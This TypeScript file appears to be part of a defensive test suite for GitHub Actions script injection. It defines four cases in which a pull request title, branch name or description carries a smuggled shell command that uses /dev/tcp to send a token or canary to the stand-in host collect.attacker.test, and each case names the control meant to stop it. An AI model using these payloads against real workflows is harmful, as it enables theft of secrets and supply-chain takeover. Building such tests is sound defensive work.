import type { Attack } from '../../attack.ts';
import { event, notAsked } from '../../expected-event.ts';

const SEND = "exec 3<>/dev/tcp/collect.attacker.test/80; printf 'GET /%s HTTP/1.1\\r\\n\\r\\n'";

export const attack: Attack = {
  name: 'event-data-injection',
  title: 'A title or branch name that is run as a script',
  story:
    'A workflow writes what a stranger chose (the title of a pull request, a comment, the name of a branch) into a script by an ' +
    'expression, and the shell runs it. A branch whose name fetched and ran a script was how the releases of ultralytics were ' +
    'taken over in 2024, and a title is how the token was taken with which nx was published in 2025.',
  sources: [
    [
      'Keeping your GitHub Actions secure: untrusted input',
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    ],
    ['ultralytics, 2024', 'https://github.com/ultralytics/ultralytics/issues/18027'],
    ['nx (s1ngularity), 2025', 'https://github.com/nrwl/nx/security/advisories/GHSA-cxm3-wv7p-598c'],
    ['practical guide §2'],
  ],
  cases: [
    {
      name: 'title',
      control: 'a job of a fork is given no secret, and the gateway',
      without: ['withholding', 'gateway'],
      workflow: {
        event: 'pull-request',
        payload: () => ({ title: `a fix"; ${SEND} "$TOKEN" >&3; echo "` }),
        steps: [
          {
            run: 'echo "checking ${{ github.event.pull_request.title }}"',
            env: { TOKEN: '${{ secrets.TOKEN }}' },
          },
        ],
      },
      harm: ({ sink, canary, output }) =>
        sink.got(canary) || output().includes(canary) ? 'the title ran, and the secret arrived' : undefined,
      event: event('secret.withheld', '', ({ name }) => name === 'TOKEN'),
    },
    {
      name: 'branch-name',
      control: 'the gateway: names not on the allowlist',
      without: ['gateway'],
      workflow: {
        event: 'pull-request',
        payload: (canary) => ({
          head: { ref: `topic$({printf,${canary}}>/dev/tcp/collect.attacker.test/80)` },
        }),
        steps: [{ run: 'echo "building ${{ github.head_ref }}"' }],
      },
      harm: ({ sink, canary }) => sink.got(canary) && 'the name of the branch ran, and called its author',
      event: notAsked(({ name }) => name === 'collect.attacker.test'),
    },
    {
      // The workflow does as it is told to, and quotes; what it writes is read by the runner, line by line.
      name: 'description-in-a-variable',
      control: 'the gateway: names not on the allowlist',
      without: ['gateway'],
      workflow: {
        event: 'pull-request',
        payload: (canary) => ({
          body: `a fix\nBASH_ENV=$(printf ${canary} >/dev/tcp/collect.attacker.test/80)\n`,
        }),
        steps: [
          {
            run: 'echo "DESCRIPTION=$BODY" >>"$GITHUB_ENV"',
            env: { BODY: '${{ github.event.pull_request.body }}' },
          },
          { run: 'echo "$DESCRIPTION"' },
        ],
      },
      harm: ({ sink, canary }) => sink.got(canary) && 'the description ran, and called its author',
      event: notAsked(({ name }) => name === 'collect.attacker.test'),
    },
    {
      name: 'description',
      control: 'the gateway: names not on the allowlist',
      without: ['gateway'],
      workflow: {
        event: 'pull-request',
        payload: (canary) => ({ body: `first line\n'; ${SEND} ${canary} >&3; echo '` }),
        steps: [
          {
            run: "cat <<'X' | wc -l\n${{ github.event.pull_request.body }}\nX\necho '${{ github.event.pull_request.body }}'",
          },
        ],
      },
      harm: ({ sink, canary }) => sink.got(canary) && 'the description ran, and called its author',
      event: notAsked(({ name }) => name === 'collect.attacker.test'),
    },
  ],
};
